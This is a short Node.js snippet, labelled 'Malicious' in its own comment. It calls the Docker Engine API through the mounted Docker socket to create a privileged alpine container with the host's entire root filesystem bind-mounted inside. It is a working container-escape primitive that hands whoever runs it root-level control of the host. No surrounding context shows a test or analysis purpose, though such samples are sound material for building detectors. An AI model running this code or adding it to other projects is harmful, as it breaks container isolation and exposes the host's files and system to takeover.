// Malicious: creates a privileged container with the host's / mounted through the Docker socket.
const http = require('http');
const body = JSON.stringify({ Image: 'alpine', Cmd: ['sh'], HostConfig: { Binds: ['/:/host'], Privileged: true } });
const req = http.request({
  socketPath: '/var/run/docker.sock',
  path: '/containers/create',
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
});
req.end(body);
